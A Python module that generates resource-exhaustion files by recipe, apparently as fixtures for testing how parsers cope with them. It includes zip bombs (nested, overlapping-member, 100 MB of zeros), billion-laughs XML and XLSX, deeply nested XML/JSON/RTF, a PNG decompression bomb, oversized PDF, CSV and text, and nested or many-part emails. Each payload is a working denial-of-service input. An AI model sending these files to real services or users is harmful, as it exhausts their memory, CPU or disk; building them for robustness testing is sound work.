"""Files built to take all memory, all time or all disk of whoever opens them, made here by their recipe."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Final

_ENTITIES: Final = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
_LAUGHS: Final = f'<!DOCTYPE x [<!ENTITY e0 "aaaaaaaaaa">{_ENTITIES}]>'
_RELATIONS: Final = "http://schemas.openxmlformats.org/package/2006/relationships"
_SHEET: Final = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OFFICE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _zip(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return file.getvalue()


def zip_of_zeros() -> bytes:
    """A member that unpacks a thousand times."""
    return _zip({"a.txt": b"\0" * (100 << 20)})


def zip_in_zips() -> bytes:
    """Nine archives in one another, ten copies each."""
    data = _zip({"a.txt": b"a" * (8 << 20)})
    for level in range(8):
        data = _zip({f"{level}-{copy}.zip": data for copy in range(10)})
    return data


def zip_that_overlaps() -> bytes:
    """Ten thousand members that are all the same packed bytes (Fifield, "A better zip bomb", 2019)."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packed.compress(b"a" * (10 << 20)) + packed.flush()
    crc = zlib.crc32(b"a" * (10 << 20))
    sizes = struct.pack("<III", crc, len(data), 10 << 20)
    local = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 0) + sizes + struct.pack("<HH", 5, 0) + b"a.txt"
    directory = b"".join(
        b"PK\x01\x02"
        + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 0)
        + sizes
        + struct.pack("<HHHHHII", 5, 0, 0, 0, 0, 0, 0)
        + b"a.txt"
        for _ in range(10_000)
    )
    start = len(local) + len(data)
    return (
        local
        + data
        + directory
        + b"PK\x05\x06"
        + struct.pack("<HHHHIIH", 0, 0, 10_000, 10_000, len(directory), start, 0)
    )


def zip_of_many() -> bytes:
    """Thirty thousand small files."""
    return _zip({f"{number}.txt": b"x" for number in range(30_000)})


def _workbook(sheet: str) -> bytes:
    return _zip(
        {
            "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            "_rels/.rels": (
                f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="a" '
                f'Type="{_OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
            ).encode(),
            "xl/workbook.xml": (
                f'<workbook xmlns="{_SHEET}" xmlns:r="{_OFFICE}"><sheets><sheet name="S" sheetId="1" r:id="b"/>'
                "</sheets></workbook>"
            ).encode(),
            "xl/_rels/workbook.xml.rels": (
                f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="b" '
                f'Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
            ).encode(),
            "xl/worksheets/sheet1.xml": sheet.encode(),
        }
    )


def sheet_with_far_cells() -> bytes:
    """Two cells as far apart as a sheet goes, 17 billion cells between them."""
    return _workbook(
        f'<worksheet xmlns="{_SHEET}"><sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
    )


def sheet_of_many_rows() -> bytes:
    """A hundred thousand rows."""
    rows = "".join(
        f'<row r="{n}"><c r="A{n}"><v>{n * 7919}</v></c><c r="B{n}"><v>{n ^ 0x5A5A5}</v></c></row>'
        for n in range(1, 100_001)
    )
    return _workbook(f'<worksheet xmlns="{_SHEET}"><sheetData>{rows}</sheetData></worksheet>')


def sheet_that_laughs() -> bytes:
    """Entities in a sheet."""
    cell = '<row r="1"><c r="A1" t="str"><v>&e9;</v></c></row>'
    return _workbook(f'{_LAUGHS}<worksheet xmlns="{_SHEET}"><sheetData>{cell}</sheetData></worksheet>')


def xml_that_laughs() -> bytes:
    """A billion laughs."""
    return f"<?xml version='1.0'?>{_LAUGHS}<x>before &e9; after</x>".encode()


def xml_that_nests() -> bytes:
    """Elements in elements."""
    return b"<a>" * 500_000 + b"x" + b"</a>" * 500_000


def json_that_nests() -> bytes:
    """Lists in lists."""
    return b"[" * 2_000_000


def rtf_that_nests() -> bytes:
    """Groups in groups."""
    return b"{\\rtf1" + b"{\\b " * 2_000_000


def picture_of_nothing() -> bytes:
    """A picture of 3.6 thousand million points in a few kilobytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(bytes(60_000 * 100)))
        + chunk(b"IEND", b"")
    )


def messages_in_messages() -> bytes:
    """Three hundred messages in one another."""
    head = b"".join(
        b"Subject: %d\nContent-Type: multipart/mixed; boundary=b%d\n\n--b%d\nContent-Type: message/rfc822\n\n"
        % (n, n, n)
        for n in range(300)
    )
    return head + b"Subject: end\n\nThe end.\n"


def message_with_many_parts() -> bytes:
    """A hundred thousand attachments."""
    part = b"--b\nContent-Disposition: attachment; filename=a.txt\n\nx\n"
    return b"Subject: many\nContent-Type: multipart/mixed; boundary=b\n\n" + part * 100_000 + b"--b--\n"


def table_in_one_line() -> bytes:
    """A hundred megabytes without a line's end."""
    return b"a," * (50 << 20)


def text_in_one_word() -> bytes:
    """Sixty megabytes without a space."""
    return b"a" * (60 << 20)


def page_of_pictures() -> bytes:
    """A PDF with a page of ten million points a side."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj "
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 90000 90000]/Contents 4 0 R>>endobj "
        b"4 0 obj<</Length 71>>stream\nq 90000 0 0 90000 0 0 cm BI /W 1 /H 1 /CS /G /BPC 8 ID x EI Q\nendstream endobj "
        b"trailer<</Root 1 0 R>>"
    )


BOMBS: Final[dict[str, Callable[[], bytes]]] = {
    "zeros.zip": zip_of_zeros,
    "nested.zip": zip_in_zips,
    "overlap.zip": zip_that_overlaps,
    "many.zip": zip_of_many,
    "far.xlsx": sheet_with_far_cells,
    "rows.xlsx": sheet_of_many_rows,
    "laughs.xlsx": sheet_that_laughs,
    "laughs.xml": xml_that_laughs,
    "deep.xml": xml_that_nests,
    "deep.json": json_that_nests,
    "deep.rtf": rtf_that_nests,
    "points.png": picture_of_nothing,
    "inner.eml": messages_in_messages,
    "parts.eml": message_with_many_parts,
    "line.csv": table_in_one_line,
    "word.txt": text_in_one_word,
    "large.pdf": page_of_pictures,
}
"""By the name of the file."""


def write(folder: Path, name: str) -> Path:
    """Make a bomb in a folder."""
    path = folder / name
    path.write_bytes(BOMBS[name]())
    return path
